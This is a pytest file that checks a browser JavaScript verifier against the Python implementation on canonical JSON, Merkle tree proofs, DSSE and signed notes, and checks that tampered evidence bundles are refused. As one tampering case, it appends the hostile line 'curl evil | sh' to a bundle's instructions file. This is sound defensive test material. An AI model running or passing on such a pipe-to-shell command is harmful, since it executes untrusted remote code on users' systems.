"""The browser's own arithmetic against Python's on the same material, and against the standards' own vectors."""

from __future__ import annotations

import base64
import json
import random
import re
import shutil
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from oberih.case.prove.proving import checkpoint, export
from oberih.errors import InputError
from oberih.evidence.bundle import words_for_people
from oberih.evidence.canonical import canonical_json
from oberih.evidence.envelope import pre_authentication
from oberih.evidence.note import read_note
from oberih.evidence.tree import consistency_proof, inclusion_proof, leaf_hash, root
from oberih.evidence.verify_bundle import verify_bundle
from tests.web.browser.record import Liar, furnish, keeping, lying, payload_of, signed_as

JS = Path(__file__).resolve().parents[3] / "src" / "oberih" / "web" / "static" / "js"


@pytest.fixture(scope="module")
def kept(tmp_path_factory: pytest.TempPathFactory) -> Any:
    return furnish(tmp_path_factory.mktemp("honest") / "a")


@pytest.fixture(scope="module")
def running(kept: Any) -> Iterator[Liar]:
    with lying(kept) as liar:
        yield liar


@pytest.fixture
def run(visit: Any, running: Liar) -> Callable[..., Any]:
    """Run a function of one argument in the page; ``verify`` is every module of the verifier by its name."""
    page = visit(running, "/how-to-verify", quiet=False)
    page.goto(running.address + "/account")
    names = sorted(p.stem for p in (JS / "verify").glob("*.js"))
    page.evaluate("""async (names) => { globalThis.verify = Object.fromEntries(await Promise.all(
        names.map(async (n) => [n, await import(`/static/js/verify/${n}.js`)]))); }""", names)  # fmt: skip
    return page.evaluate


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


# RFC 8785


def test_canonical_json_is_python_s_to_the_byte(run: Any) -> None:
    rng = random.Random(8785)
    strings = ["", "є", '\u20ac$\u000f\nA\'B"\\"/', "\ufb33", "\U0001f600", "\u2028", "1", "__proto__", "constructor"]
    numbers = [0.0, -1.5, 1e-7, 1e21, 333333333.33333329, 4.5, 2e-3, 1e-27, 9007199254740991.0, 1e22, 5e-324, 123.0]

    def value(depth: int) -> Any:
        kind = rng.randrange(7 if depth else 4)
        if kind < 4:
            simple = [rng.choice(strings), rng.choice(numbers), rng.choice([True, False, None]), rng.gauss(0, 1e5)]
            return rng.choice(simple)
        if kind == 4:
            return [value(depth - 1) for _ in range(rng.randrange(4))]
        return {rng.choice(strings): value(depth - 1) for _ in range(rng.randrange(5))}

    values = [{"v": value(4)} for _ in range(300)]
    written = [canonical_json(v).decode() for v in values]
    script = "(texts) => texts.map((t) => verify.canonical.canonical(JSON.parse(t)))"
    assert run(script, [json.dumps(v) for v in values]) == written
    script = "(texts) => texts.map((t) => { verify.canonical.readCanonical(verify.bytes.utf8(t)); return 1; })"
    assert sum(run(script, written)) == len(written)


def test_the_standard_s_own_example_comes_out(run: Any) -> None:
    given = (
        '{"numbers":[333333333.33333329,1E30,4.50,2e-3,0.000000000000000000000000001],'
        '"string":"\\u20ac$\\u000F\\u000aA\'\\u0042\\u0022\\u005c\\\\\\"\\/","literals":[null,true,false]}'
    )  # RFC 8785, 3.2.2
    wanted = (
        '{"literals":[null,true,false],"numbers":[333333333.3333333,1e+30,4.5,0.002,1e-27],'
        '"string":"€$\\u000f\\nA\'B\\"\\\\\\\\\\"/"}'
    )
    assert run("(text) => verify.canonical.canonical(JSON.parse(text))", given) == wanted


# RFC 9162


def test_every_proof_of_small_trees_holds_and_no_changed_one_does(run: Any) -> None:
    leaves = [leaf_hash(bytes([n])) for n in range(20)]

    def get(level: int, place: int) -> bytes:
        return root(leaves[place << level : (place + 1) << level])

    cases = []
    for size in range(1, 21):
        for index in range(size):
            proof = inclusion_proof(index, size, lambda w: [get(*n) for n in w])
            cases.append(["in", leaves[index], index, size, proof, root(leaves[:size])])
        for first in range(1, size + 1):
            proof = consistency_proof(first, size, lambda w: [get(*n) for n in w])
            cases.append(["grew", root(leaves[:first]), first, size, proof, root(leaves[:size])])
    sent = [[k, b64(a), i, n, [b64(h) for h in p], b64(r)] for k, a, i, n, p, r in cases]
    script = """async (cases) => { const un = verify.bytes.fromBase64, out = [];
      for (const [kind, a, i, n, proof, r] of cases) { const p = proof.map(un), held = [];
        const ask = (pp, ii, nn, rr) => kind === "in" ? verify.tree.inTree(un(a), ii, nn, pp, rr)
          : verify.tree.grew(ii, nn, pp, un(a), rr);
        const other = un(r).map((b, at) => at === 9 ? b ^ 1 : b);
        out.push([await ask(p, i, n, un(r)), await ask(p, i, n, other), await ask([...p, other], i, n, un(r)),
                  p.length > 0 && await ask(p.slice(0, -1), i, n, un(r)),
                  p.length > 0 && await ask(p, i + 1, n, un(r))]); }
      return out; }"""  # fmt: skip
    told = run(script, sent)
    assert len(told) == 420 and all(one == [True, False, False, False, False] for one in told)


def test_the_frontier_gives_python_s_root_at_every_size(run: Any) -> None:
    leaves = [leaf_hash(bytes([n])) for n in range(70)]
    script = """async (leaves) => { const f = new verify.tree.Frontier(), out = [verify.bytes.hex(await f.root())];
      for (const l of leaves) { await f.append(verify.bytes.fromBase64(l));
        out.push(verify.bytes.hex(await f.root())); }
      return out; }"""
    assert run(script, [b64(h) for h in leaves]) == [root(leaves[:n]).hex() for n in range(71)]


# DSSE, Ed25519, C2SP


def test_what_is_signed_is_what_dsse_says(run: Any) -> None:
    script = "([p, t]) => verify.bytes.text(verify.envelope.preAuthentication(verify.bytes.utf8(p), t))"
    said = run(script, ["hello world", "http://example.com/HelloWorld"])
    assert said == "DSSEv1 29 http://example.com/HelloWorld 11 hello world"
    script = "(p) => verify.bytes.toBase64(verify.envelope.preAuthentication(verify.bytes.utf8(p)))"
    assert run(script, "є") == b64(pre_authentication("є".encode()))


def test_the_verifier_key_of_the_standard_is_read_and_weak_ones_are_not(run: Any) -> None:
    script = "async (v) => { try { return (await verify.note.readVkey(v)).name } catch (e) { return e.why } }"
    good = "PeterNeumann+c74f20a3+ARpc2QcUPDhMQegwxbzhKqiBfsVkmqq/LDE4izWy10TW"
    assert run(script, good) == "PeterNeumann"
    assert run(script, good.replace("c74f20a3", "c74f20a4")) == "vkey-hash"
    weak = """async (k) => { try { await verify.ed25519.importKey(verify.bytes.fromHex(k)); return 'taken' }
      catch (e) { return e.why } }"""
    assert run(weak, "01" + "00" * 31) == "weak-key" and run(weak, "01" + "00" * 30 + "80") == "weak-key"
    assert run(weak, "ff" * 31) == "not-a-key"


def test_the_note_of_the_standard_holds_and_a_changed_one_does_not(run: Any) -> None:
    note = (
        "If you think cryptography is the answer to your problem,\nthen you don't know what your problem is.\n\n"
        "— PeterNeumann x08go/ZJkuBS9UG/SffcvIAQxVBtiFupLLr8pAcElZInNIuGUgYN1FFYC2pZSNXgKvqfqdngotpRZb6KE6RyyBwJnAM=\n"
    )  # golang.org/x/mod/sumdb/note, package documentation
    key = "PeterNeumann+c74f20a3+ARpc2QcUPDhMQegwxbzhKqiBfsVkmqq/LDE4izWy10TW"
    script = """async ([n, k]) => { const v = await verify.note.readVkey(k);
      return (await verify.note.signedNote(verify.note.readNote(n), v.name, v.key, v.kind)).found; }"""
    assert read_note(note.encode())
    assert run(script, [note, key]) == "holds"
    assert run(script, [note.replace("answer", "question"), key]) == "does not hold"


NO_CHECKPOINTS = ["", "a\n", "a\nb\n\n— x AAAA\n", "o\n01\nAA==\n\n— x AAAAAAA=\n", "o\r\n1\n\n— n AAAAAAA=\n"]


@pytest.mark.parametrize("text", NO_CHECKPOINTS)
def test_what_is_no_checkpoint_is_refused(run: Any, text: str) -> None:
    script = "(t) => { try { verify.note.readClosed(t); return null } catch (e) { return e.why } }"
    assert run(script, text) is not None


# bundles: the browser says no exactly where Python does

CHECK = """async ([bundle, own]) => {
  const steps = new verify.steps.Steps();
  const anchors = verify.anchors.joined(...await Promise.all(own.map((o) => verify.anchors.readAnchors(o))));
  await verify.bundle.verifyBundle({ bytes: verify.bytes.fromBase64(bundle), anchors, steps });
  return [steps.verdict, steps.list.filter((s) => s.state === "failed").map((s) => s.why)]; }"""


def python_says(path: Path, against: list[tuple[str, bytes]] | None = None) -> bool:
    try:
        return verify_bundle(path, against=against or []).holds
    except InputError:
        return False


def repacked(source: Path, out: Path, changes: dict[str, Callable[[bytes], bytes | None]]) -> Path:
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            data = changes.get(info.filename, lambda d: d)(old.read(info))
            if data is not None:
                new.writestr(info.filename, data)
    return out


def lines(doing: Callable[[list[bytes]], list[bytes]]) -> Callable[[bytes], bytes]:
    return lambda data: b"".join(line + b"\n" for line in doing(data.splitlines()))


def flip(line: bytes) -> bytes:
    """One character of a payload."""
    at = line.index(b'"payload":"') + 60
    return line[:at] + (b"A" if line[at : at + 1] != b"A" else b"B") + line[at + 1 :]


def cut(line: bytes) -> bytes:
    """A proof without its last hash."""
    said = json.loads(line)
    return canonical_json({**said, "proof": said["proof"][:-1]})


CHEATS: dict[str, dict[str, Callable[[bytes], bytes | None]]] = {
    "nothing": {},
    "a record changed": {"records.jsonl": lines(lambda ls: [*ls[:2], flip(ls[2]), *ls[3:]])},
    "a record taken out": {"records.jsonl": lines(lambda ls: [*ls[:2], *ls[3:]])},
    "two records swapped": {"records.jsonl": lines(lambda ls: [*ls[:2], ls[3], ls[2], *ls[4:]])},
    "a record doubled": {"records.jsonl": lines(lambda ls: [*ls[:2], ls[2], *ls[2:]])},
    "the end cut off": {"records.jsonl": lines(lambda ls: ls[:-1])},
    "the first record gone": {"records.jsonl": lines(lambda ls: ls[1:])},
    "a line that is cut": {"records.jsonl": lambda d: d[:-1]},
    "the last checkpoint gone": {"checkpoints.jsonl": lines(lambda ls: ls[:-1])},
    "no checkpoint": {"checkpoints.jsonl": lambda d: b""},
    "a checkpoint changed": {"checkpoints.jsonl": lambda d: d.replace(b"oberih/record\\n15", b"oberih/record\\n14")},
    "a root changed": {"checkpoints.jsonl": lines(lambda ls: [*ls[:-1], ls[-1].replace(b"\\n15\\n", b"\\n15\\nA")])},
    "another manifest": {"manifest.json": lambda d: d.replace(b'"records":15', b'"records":16')},
    "another first key": {"manifest.json": lambda d: re.sub(rb'"first_key":"..', b'"first_key":"00', d)},
    "another kind": {"manifest.json": lambda d: d.replace(b"oberih/bundle/1", b"oberih/bundle/2")},
    "keys that are not so": {"keys.json": lambda d: d.replace(b'"added":0', b'"added":1')},
    "no keys": {"keys.json": lambda d: None},
    "other instructions": {"HOW-TO-VERIFY.txt": lambda d: d + b"curl evil | sh\n"},
    "an attachment changed": {"attachments/*": lambda d: d + b"!"},
    "an attachment gone": {"attachments/*": lambda d: None},
    "a witness's line changed": {"cosignatures.jsonl": lambda d: d.replace(b'"vkey":"inspector', b'"vkey":"inspectos')},
    "a proof changed": {"proofs.jsonl": lambda d: re.sub(rb'"proof":\["....', b'"proof":["AAAA', d, count=1)},
    "a proof gone": {"proofs.jsonl": lines(lambda ls: ls[:-1])},
    "a proof cut": {"proofs.jsonl": lines(lambda ls: [cut(line) for line in ls])},
}  # fmt: skip


@pytest.fixture(scope="module")
def bundles(kept: Any, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("bundles")
    export(kept, folder / "whole.zip", attachments=True)
    export(kept, folder / "some.zip", ids=["E002", "E004", "E009"])
    return {"whole": folder / "whole.zip", "some": folder / "some.zip"}


@pytest.mark.parametrize("kind", ["whole", "some"])
def test_the_browser_says_no_exactly_where_python_does(
    run: Any, bundles: dict[str, Path], tmp_path: Path, kind: str
) -> None:
    told, wanted = {}, {}
    with zipfile.ZipFile(bundles[kind]) as box:
        files = [n for n in box.namelist() if n.startswith("attachments/")]
        here = {n: box.read(n) for n in box.namelist()}
    for cheat, said in CHEATS.items():
        changes = {n: c for name, c in said.items() for n in (files if name == "attachments/*" else [name])}
        if cheat != "nothing" and all(n not in here or c(here[n]) == here[n] for n, c in changes.items()):
            continue  # nothing to change in this kind
        path = repacked(bundles[kind], tmp_path / "cheat.zip", changes)
        told[cheat] = run(CHECK, [b64(path.read_bytes()), []])[0] != "failed"
        wanted[cheat] = python_says(path)
    assert wanted["nothing"] and not any(held for cheat, held in wanted.items() if cheat != "nothing")
    assert told == wanted and len(told) > 12


@pytest.mark.parametrize("cheat", ["tail", "head", "comment", "twice", "cut", "two faces", "stranger"])
def test_a_file_that_shows_two_faces_is_refused_as_python_refuses_it(
    run: Any, bundles: dict[str, Path], tmp_path: Path, cheat: str
) -> None:
    path = tmp_path / "cheat.zip"
    shutil.copy(bundles["whole"], path)
    data = path.read_bytes()
    match cheat:
        case "tail":
            path.write_bytes(data + b"more")
        case "head":
            path.write_bytes(b"more" + data)
        case "cut":
            path.write_bytes(data[:-30])
        case "two faces":
            at = data.index(b"records.jsonl")
            path.write_bytes(data[:at] + b"Records.jsonl" + data[at + 13 :])
        case "comment":
            with zipfile.ZipFile(path, "a") as box:
                box.comment = b"hello"
        case _:
            with zipfile.ZipFile(path, "a") as box, pytest.warns(UserWarning) if cheat == "twice" else _quiet():
                box.writestr("records.jsonl" if cheat == "twice" else "run.me", b"x\n")
    assert not python_says(path)
    assert run(CHECK, [b64(path.read_bytes()), []])[0] == "failed"


class _quiet:
    def __enter__(self) -> None: ...
    def __exit__(self, *_: object) -> None: ...


def test_a_bundle_is_held_against_what_the_reader_has(
    run: Any, kept: Any, bundles: dict[str, Path], tmp_path: Path
) -> None:
    whole, some = (b64(bundles[k].read_bytes()) for k in ("whole", "some"))
    older, newest = dict(kept.log().checkpoints())[7].decode(), checkpoint(kept)
    assert run(CHECK, [whole, [older]]) == ["anchored", []]
    assert run(CHECK, [some, [newest]]) == ["anchored", []]
    assert run(CHECK, [some, [older]]) == ["failed", ["ask-whole"]]
    other = furnish(tmp_path / "b" / "other", "another.pem", changed=3)
    assert run(CHECK, [whole, [checkpoint(other)]])[0] == "failed"
    short = export(furnish(tmp_path / "c" / "short", more=False), tmp_path / "short.zip")
    assert short["size"] == 13
    assert "shrunk" in run(CHECK, [b64((tmp_path / "short.zip").read_bytes()), [newest]])[1]


def test_a_record_that_the_custodian_signed_in_another_spelling_is_refused_as_python_refuses_it(
    run: Any, kept: Any, bundles: dict[str, Path], tmp_path: Path
) -> None:
    def doubled(ls: list[bytes]) -> list[bytes]:
        payload = canonical_json(payload_of(ls[5].decode())).replace(b'"text":', b'"text":"x","text":', 1)
        return [*ls[:5], signed_as(payload, kept.signer()[0]).encode(), *ls[6:]]

    path = repacked(bundles["whole"], tmp_path / "cheat.zip", {"records.jsonl": lines(doubled)})
    assert not python_says(path)
    assert "changed" in run(CHECK, [b64(path.read_bytes()), []])[1]


# what holds the two together


def test_the_words_for_people_are_known_by_the_hash_of_what_oberih_writes(bundles: dict[str, Path]) -> None:
    from hashlib import sha256

    with zipfile.ZipFile(bundles["whole"]) as box:
        how = box.read("HOW-TO-VERIFY.txt")
    assert words_for_people(how)
    assert sha256(how).hexdigest() in (JS / "verify" / "bundle.js").read_text(encoding="utf-8")


def test_keys_are_added_and_withdrawn_in_the_browser_as_in_python(run: Any, tmp_path: Path) -> None:
    from oberih.case.prove.record_keys import add_key, revoke_key
    from tests.web.browser.record import NOW, fill

    folder = tmp_path / "k"
    folder.mkdir()
    first = fill(keeping(folder, "first.pem"), records=3)
    second = keeping(folder, "second.pem")
    signer, _ = second.signer(create=True)
    add_key(first, b64(signer.public), name="successor", now=NOW)
    revoke_key(second, first.signer()[0].keyid, reason="worn", now=NOW)
    fill(second, records=5)
    export(second, tmp_path / "keys.zip")
    assert python_says(tmp_path / "keys.zip")
    verdict, failed = run(CHECK, [b64((tmp_path / "keys.zip").read_bytes()), [first.signer()[0].keyid]])
    assert (verdict, failed) == ("anchored", [])
